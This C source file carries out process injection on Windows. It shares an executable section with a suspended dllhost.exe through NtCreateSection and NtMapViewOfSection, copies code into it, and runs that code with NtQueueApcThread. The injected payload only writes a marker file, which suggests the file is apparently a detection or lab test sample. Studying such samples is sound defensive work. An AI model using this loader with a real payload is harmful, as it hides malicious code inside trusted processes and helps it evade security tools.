/* Shares a section with a suspended process by system calls, writes code into it, and queues it to its thread. */
#include <windows.h>
#include <string.h>

typedef LONG(NTAPI *create_section)(HANDLE *, ULONG, void *, LARGE_INTEGER *, ULONG, ULONG, HANDLE);
typedef LONG(NTAPI *map_view)(HANDLE, HANDLE, void **, ULONG_PTR, SIZE_T, LARGE_INTEGER *, SIZE_T *, ULONG, ULONG, ULONG);
typedef LONG(NTAPI *queue_apc)(HANDLE, void *, void *, void *, void *);
typedef HANDLE(WINAPI *create_file)(LPCSTR, DWORD, DWORD, LPSECURITY_ATTRIBUTES, DWORD, DWORD, HANDLE);
struct context { create_file create; char path[64]; };

static DWORD WINAPI injected(struct context *c)
{
    c->create(c->path, GENERIC_WRITE, 0, NULL, CREATE_ALWAYS, 0, NULL);
    return 7;
}
static void end(void) { }

int main(void)
{
    HMODULE ntdll = GetModuleHandleA("ntdll.dll");
    HANDLE section = NULL;
    LARGE_INTEGER size;
    size.QuadPart = 4096;
    if (((create_section)GetProcAddress(ntdll, "NtCreateSection"))(&section, SECTION_ALL_ACCESS, NULL, &size, PAGE_EXECUTE_READWRITE, SEC_COMMIT, NULL)) return 1;
    STARTUPINFOW si = {sizeof si};
    PROCESS_INFORMATION pi;
    wchar_t command[] = L"dllhost.exe";
    if (!CreateProcessW(NULL, command, NULL, NULL, FALSE, CREATE_SUSPENDED, NULL, NULL, &si, &pi)) return 2;
    map_view map = (map_view)GetProcAddress(ntdll, "NtMapViewOfSection");
    void *here = NULL, *there = NULL;
    SIZE_T view = 0;
    if (map(section, GetCurrentProcess(), &here, 0, 0, NULL, &view, 2, 0, PAGE_READWRITE)) return 3;
    view = 0;
    if (map(section, pi.hProcess, &there, 0, 0, NULL, &view, 2, 0, PAGE_EXECUTE_READ)) return 4;
    struct context c = {(create_file)GetProcAddress(GetModuleHandleA("kernel32.dll"), "CreateFileA"), "C:\\Users\\Public\\by_section.txt"};
    SIZE_T length = (char *)end - (char *)injected;
    memcpy(here, (void *)injected, length > 1024 ? 256 : length);
    memcpy((char *)here + 2048, &c, sizeof c);
    ((queue_apc)GetProcAddress(ntdll, "NtQueueApcThread"))(pi.hThread, there, (char *)there + 2048, NULL, NULL);
    ResumeThread(pi.hThread);
    return 0;
}
